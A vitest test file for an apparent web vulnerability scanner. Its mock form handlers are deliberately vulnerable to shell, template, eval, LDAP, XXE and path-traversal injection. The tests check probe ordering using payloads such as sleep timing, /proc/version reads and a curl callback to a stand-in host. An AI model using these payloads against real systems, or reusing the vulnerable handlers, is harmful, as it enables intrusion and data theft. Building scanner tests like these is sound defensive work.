/** What a form that may write is asked with the few requests that it may be sent. */
import type { IncomingMessage } from 'node:http'
import { join } from 'node:path'
import { runInNewContext } from 'node:vm'
import { afterEach, expect, it } from 'vitest'
import type { OobHit, OutOfBand } from '../../../egress/oob/out-of-band.ts'
import { fakeProbe } from '../insertion-points/testing/fake-probe.ts'
import { closeProbed, crawlOf, html, pointOf, probed } from '../insertion-points/testing/probing.ts'
import { askAgain, probePoint } from './collect.ts'
import type { InjectionHit } from './facts.ts'
import { createOutside } from './probes/outside.ts'
import { siteFilesOf } from './site-files.ts'

afterEach(closeProbed)

const NAMES = ['name', 'mail', 'text']
const POSTED = { method: 'POST', effect: 'writes', bound: 40 } as const
const NOTHING = { site: siteFilesOf(crawlOf([])), served: async () => ({ status: 404, text: '' }), tests: true }

const bodyOf = async (request: IncomingMessage): Promise<URLSearchParams> => {
  let body = ''
  for await (const chunk of request) body += chunk
  return new URLSearchParams(body)
}

const FILES: Readonly<Record<string, string>> = {
  '/proc/version': 'Linux version 6.1.0',
  '/proc/filesystems': 'nodev\tsysfs\nnodev\ttmpfs',
}

/** A form that may write is posted; what is found, and how often it was sent. */
const posted = async (
  fields: Readonly<Record<string, string>>,
  answer: (body: URLSearchParams) => string,
  listening?: OutOfBand,
  bound = 40,
) => {
  const crawl = crawlOf(Object.entries(fields).map(([name, value]) => pointOf('a', 'form', name, value)))
  const sent = Object.entries(fields).map(([name, value]) => ({ name, value, type: 'text' }))
  const form = { method: 'POST', encoding: 'urlencoded', fields: sent, bound, source: 'form' } as const
  const known = { ...crawl, requests: crawl.requests.map((one) => ({ ...one, ...form })) }
  const outside = createOutside(listening, 50)
  let posts = 0
  let last: InjectionHit | null = null
  const { hits } = await probed(
    async (request, response) => {
      posts += request.method === 'POST' ? 1 : 0
      const body = await bodyOf(request)
      try {
        response.end(html(answer(body)))
      } catch {
        response.writeHead(500).end(html('Something went wrong.'))
      }
    },
    known,
    null,
    null,
    {
      probe: (probe, found) => {
        const told = (hit: InjectionHit): void => {
          last = hit
          found(hit.kind)
        }
        const served = async () => ({ status: 404, text: '' })
        return probePoint(probe, told, outside, { site: siteFilesOf(known), served, tests: true })
      },
      again: async (probe, _, found) => {
        if (last) await askAgain(probe, last, (hit) => found(hit.kind))
      },
      afterwards: async (at) =>
        (await outside.settle(at, () => undefined)).map(({ point, hit }) => ({ point, hit: hit.kind })),
    },
  )
  return { hits, posts }
}

it('which of several fields runs in a shell is asked by what they have shown together, and a number named page is no file', async () => {
  const fields = { page: '1', label: 'first', host: 'tent' }
  const shell = (text: string) => text.replace(/\$\(\((\d+)\*(\d+)\)\)/g, (_, a, b) => String(a * b))
  const { hits, posts } = await posted(
    fields,
    (body) => `Looking up ${shell(body.get('host') ?? '')}, ${body.get('label')} on page ${body.get('page')}`,
    undefined,
    26,
  )
  expect(hits).toEqual(['form host'])
  expect(posts).toBeLessThanOrEqual(26)
})

it('a field that speaks of a file is asked for one before it is asked for anything else', async () => {
  const sent: string[] = []
  const { hits, posts } = await posted({ name: 'tent', mail: 'tent', attachment: 'terms.txt' }, (body) => {
    const value = body.get('attachment') ?? ''
    sent.push(value)
    return `Thank you! ${FILES[value.replace(/^(?:\/\.\.)+/, '')] ?? 'Terms'}`
  })
  expect(hits).toEqual(['form attachment'])
  expect(sent.filter((value) => /print|sleep/.test(value))).toEqual([])
  expect(posts).toBeLessThanOrEqual(40)
})

it('a name that an error tells to lead out of its folder is asked for a file that is shown', async () => {
  const answer = (value: string) => {
    const path = join('/srv/texts', value)
    const text = FILES[path] ?? (value === 'terms.txt' ? 'Our terms' : null)
    return text === null
      ? { status: 500, text: html(`ENOENT: no such file or directory, open '${path}'`) }
      : { text: html(text) }
  }
  const { probe } = fakeProbe(answer, { place: 'form', name: 'doc', value: 'terms.txt', request: POSTED })
  const hits: InjectionHit[] = []
  await probePoint(probe, (hit) => hits.push(hit), createOutside(undefined, 50), NOTHING)
  expect(hits.map(({ kind, proof }) => [kind, proof])).toEqual([
    ['traversal', 'opened'],
    ['traversal', 'file'],
  ])
})

it.each([
  ['a template', (name: string) => name.replace(/\{\{(\d+)\*(\d+)\}\}/g, (_, a, b) => String(Number(a) * Number(b)))],
  ['a shell', (name: string) => name.replace(/;\nprintf qv%dvq (0x[0-9a-f]+)/, (_, hex) => `qv${Number(hex)}vq`)],
])('one of three fields is worked out by %s', async (_kind, worked) => {
  const { hits, posts } = await posted(Object.fromEntries(NAMES.map((name) => [name, 'tent'])), (body) => {
    return `Thank you, ${worked(body.get('name') ?? '').replace(/[<>]/g, '')}!`
  })
  expect(hits).toEqual(['form name'])
  expect(posts).toBeLessThanOrEqual(40)
})

it('a value that is an expression is asked whether it is evaluated, though the page shows no result', async () => {
  const { hits, posts } = await posted({ name: 'tent', mail: 'tent', lines: '[{sku:"A1",qty:2}]' }, (body) => {
    try {
      return Array.isArray(runInNewContext(`(${body.get('lines')})`, {}, { timeout: 1_000 }))
        ? 'Thank you!'
        : 'No lines'
    } catch {
      return 'Lines can not be read'
    }
  })
  expect(hits).toEqual(['form lines'])
  expect(posts).toBeLessThanOrEqual(40)
})

it.each([
  ['all that is no number', {}],
  ['what no language survives', { tent: 1, tentqzvkx: 2 }],
])(
  'code that compares the value, and fails on %s, is asked by what takes the comparison along',
  async (_what, names) => {
    const { hits, posts } = await posted({ guess: 'tent', mail: 'tent' }, (body) => {
      const right: unknown = runInNewContext(`4711 == ${body.get('guess')}`, { ...names }, { timeout: 1_000 })
      return `Your guess: ${right}`
    })
    expect(hits).toEqual(['form guess'])
    expect(posts).toBeLessThanOrEqual(40)
  },
)

it('what fields as one have shown on a page that is another each time is asked of each alone by the same, before it runs out', async () => {
  let turn = 0
  const { hits } = await posted(
    { count: '10', note: 'tent', host: 'tent' },
    (body) => {
      turn += 1
      const news = Array.from(
        { length: 12 },
        (_, at) => `<p>${((turn * 7 + at * 5) ** 3 % 9_973).toString(36)} of the week</p>`,
      )
      const shell = (body.get('host') ?? '').replace(/\$\(\((\d+)\*(\d+)\)\)/g, (_, a, b) =>
        String(Number(a) * Number(b)),
      )
      return `Looking up ${shell.replace(/[<>]/g, '')} ${news.join('')}`
    },
    undefined,
    16,
  )
  expect(hits).toEqual(['form host'])
})

it('a command that a page shows is found before questions about records, which a page that is another each time draws out', async () => {
  let turn = 0
  const { hits } = await posted(
    { host: 'tent' },
    (body) => {
      turn += 1
      const shell = (body.get('host') ?? '').replace(/["']*;?\$\(\((\d+)\*(\d+)\)\)["']*/g, (_, a, b) => String(a * b))
      const lines = [`Looking up ${shell.replace(/[<>]/g, '')}`, 'Three of four answered', 'Best time of the day: noon']
      return lines.map((_, at) => `<p>${lines[(at + turn) % lines.length]}</p>`).join('')
    },
    undefined,
    8,
  )
  expect(hits).toEqual(['form host'])
})

it('a number that is called page is asked for files after all that tells with a request, where few may be sent', async () => {
  const sent: string[] = []
  await posted({ page: '1' }, (body) => {
    sent.push(body.get('page') ?? '')
    return `Page ${Number(body.get('page'))} of our goods`
  })
  const firstOf = (kind: RegExp): number => sent.findIndex((value) => kind.test(value))
  expect(firstOf(/proc.version/)).toBeGreaterThan(firstOf(/\{\{/))
  expect(firstOf(/\{\{/)).toBeGreaterThan(0)
})

it('where the page shows nothing, commands that call or wait are among the first that its fields are asked', async () => {
  const calls = new Map<string, OobHit>()
  let issued = 0
  const listening: OutOfBand = {
    issue: () => {
      issued += 1
      return { token: `t${issued}t`, host: null, url: `http://198.51.100.7/t${issued}t/` }
    },
    hits: async (token) => [...calls.values()].filter((one) => one.token === token),
  }
  const run = (shell: string): void => {
    const called = /\$\(curl -m 3 http:\/\/198\.51\.100\.7\/(t\d+t)\/qv\$\(\((\d+)\*(\d+)\)\)/.exec(shell)
    const [, token = '', a, b] = called ?? []
    const detail = `GET /qv${Number(a) * Number(b)}`
    if (called) calls.set(token, { token, protocol: 'http', at: 0, from: '192.0.2.1', detail, agent: '' })
  }
  const sent: string[] = []
  const answer = (body: URLSearchParams): string => {
    run(body.get('printer') ?? '')
    sent.push(body.get('printer') ?? '')
    return 'Queued'
  }
  const { hits, posts } = await posted({ tray: 'a', copies: 'b', printer: 'desk' }, answer, listening)
  expect(hits).toEqual(['form printer'])
  const at = ['$(curl', 'sleep 1'].map((text) => sent.findIndex((one) => one.includes(text)))
  expect(Math.min(...at)).toBeGreaterThanOrEqual(0)
  expect(Math.max(...at)).toBeLessThan(6)
  expect(posts).toBeLessThanOrEqual(40)
})

const directory = (value: string): string => {
  const filter = `(&(ou=staff)(uid=${value}))`
  const depth = [...filter].reduce((now, sign) => (now < 0 ? now : now + (sign === '(' ? 1 : sign === ')' ? -1 : 0)), 0)
  if (depth !== 0 || !/^\((?:[&|!]?\(|[\w]+=)[\s\S]*\)$/.test(filter)) return 'Bad search filter (-7)'
  const parse = (text: string): ((one: Readonly<Record<string, string>>) => boolean) => {
    const inner = text.slice(1, -1)
    if (/^[&|!]/.test(inner)) {
      const parts: string[] = []
      let [open, from] = [0, 1]
      for (let at = 1; at < inner.length; at += 1) {
        open += inner[at] === '(' ? 1 : inner[at] === ')' ? -1 : 0
        if (open === 0) {
          parts.push(inner.slice(from, at + 1))
          from = at + 1
        }
      }
      const all = parts.map(parse)
      if (inner[0] === '!') return (one) => !all[0]?.(one)
      return inner[0] === '&' ? (one) => all.every((is) => is(one)) : (one) => all.some((is) => is(one))
    }
    const [name = '', wanted = ''] = inner.split('=')
    return (one) => name.toLowerCase() === 'objectclass' || (wanted === '*' ? name in one : one[name] === wanted)
  }
  return parse(filter)({ ou: 'staff', uid: 'robin', cn: 'Robin' }) ? '1 entry: Robin' : '0 entries'
}

it('a language that names itself where it cannot read a text is asked before all others', async () => {
  const sent: string[] = []
  const { hits, posts } = await posted(
    { uid: 'robin' },
    (body) => {
      sent.push(body.get('uid') ?? '')
      return directory(body.get('uid') ?? '')
    },
    undefined,
    34,
  )
  expect(hits).toEqual(['form uid'])
  expect(sent.filter((value) => /sleep|proc|printf/.test(value))).toEqual([])
  expect(posts).toBeLessThanOrEqual(34)
})

it('what the page shows of a value is asked of engines before code and shells', async () => {
  const sent: string[] = []
  const { hits } = await posted(
    { name: 'Robin' },
    (body) => {
      sent.push(body.get('name') ?? '')
      return `Hello ${(body.get('name') ?? '').replace(/\{\{(\d+)\*(\d+)\}\}/g, (_, a, b) => String(Number(a) * Number(b)))}`
    },
    undefined,
    20,
  )
  expect(hits).toEqual(['form name'])
  expect(sent.filter((value) => /print\(|printf|sleep/.test(value))).toEqual([])
})

it('a shell that fails on the text for engines is asked before each engine alone', async () => {
  const sent: string[] = []
  const { hits } = await posted(
    { count: '10', host: 'tent' },
    (body) => {
      const host = body.get('host') ?? ''
      sent.push(host)
      // As `sh` has it: bad substitution, and an operand that is no name.
      if (/\$\{\d/.test(host) || /<%|[`'"]\\?\)/.test(host)) throw new Error('Syntax error')
      const worked = host.replace(/\$\(\((\d+)\*(\d+)\)\)/g, (_, a, b) => String(Number(a) * Number(b)))
      return `Looking up ${worked.replace(/[<>']/g, '')}`
    },
    undefined,
    30,
  )
  expect(hits).toEqual(['form host'])
  expect(sent.filter((value) => /^\{\{\d+\*\d+\}\}$/.test(value))).toEqual([])
})

it('a shell behind one of several values is asked by a product before it stumbles over the text for engines', async () => {
  const sent: string[] = []
  const { hits } = await posted(
    { count: '10', host: 'tent', port: '80' },
    (body) => {
      const host = body.get('host') ?? ''
      sent.push(host)
      if (/\$\{\d|<%|[`'"]/.test(host)) throw new Error('Syntax error')
      return `Looking up ${host.replace(/\$\(\((\d+)\*(\d+)\)\)/g, (_, a, b) => String(Number(a) * Number(b)))}`
    },
    undefined,
    20,
  )
  expect(hits).toEqual(['form host'])
  const firstOf = (part: string) => sent.findIndex((value) => value.includes(part))
  expect(firstOf('<%') < 0 || firstOf('<%') > firstOf('$((')).toBe(true)
})

it('a file is handed to parsers of XML before all else', async () => {
  const head = 'Content-Disposition: form-data; name="list"; filename="a.txt"\r\nContent-Type: text/plain'
  const request = {
    ...{ method: 'POST', url: 'http://shop.test/countries/import', effect: 'unknown' as const, bound: 40 },
    ...{ headers: [['Content-Type', 'multipart/form-data; boundary=b']] as const },
    body: `--b\r\n${head}\r\n\r\nhello\r\n--b--\r\n`,
  }
  const { probe, sent } = fakeProbe(
    (_value, changed) => {
      const document = String(changed?.body ?? '')
      const [, path = ''] = /SYSTEM "file:\/\/([^"]+)"/.exec(document) ?? []
      const [, name = ''] = /<country>[\s\S]*?<name>([^<]*)/.exec(document) ?? []
      return { text: html(`Read: ${name.replace('&q;', FILES[path] ?? '')}`) }
    },
    { place: 'file', name: 'list', value: 'hello', request },
  )
  const hits: InjectionHit[] = []
  await probePoint(probe, (hit) => void hits.push(hit), createOutside(undefined, 50), NOTHING)
  expect(hits.map(({ kind }) => kind)).toEqual(['xxe'])
  expect(sent.length).toBeLessThanOrEqual(12)
})

it('a shell behind a value that the page repeats, and whose output nobody sees, is made to wait before code is asked', async () => {
  const { probe, sent } = fakeProbe(
    (value) => {
      const seconds = value.includes('@') ? (/\$\(sleep ([\d.]+)\)/.exec(value)?.[1] ?? '0') : '0'
      return { text: html(`Thank you, ${value} is on the list.`), ms: 20 + Number(seconds) * 1_000 }
    },
    { place: 'form', name: 'email', value: 'test@example.org', request: POSTED },
  )
  const hits: InjectionHit[] = []
  await probePoint(probe, (hit) => hits.push(hit), createOutside(undefined, 50), NOTHING)
  expect(hits.map(({ kind, proof }) => [kind, proof])).toEqual([['command', 'waited']])
  expect(sent.findIndex((value) => value.includes('sleep'))).toBeLessThan(7)
})

it.each([
  ['what shows nothing', () => 'Packed.', [['command', 'waited']]],
  ['and not what shows its value', (value: string) => `Packed ${value}.`, []],
] as const)('a command that waits is asked with the first of many places: %s', async (_name, shown, expected) => {
  const { probe } = fakeProbe(
    (value) => ({
      text: html(shown(value)),
      ms: 20 + Number(/\nsleep ([\d.]+)/.exec(value)?.[1] ?? '0') * 1_000,
    }),
    { name: 'folder', value: 'files' },
  )
  const hits: InjectionHit[] = []
  const found = (hit: InjectionHit) => void hits.push(hit)
  const elsewhere = async (): Promise<boolean> => false
  await probePoint(probe, found, createOutside(undefined, 50), NOTHING, { ways: () => [] }, elsewhere, 'first')
  expect(hits.map(({ kind, proof }) => [kind, proof])).toEqual(expected)
})
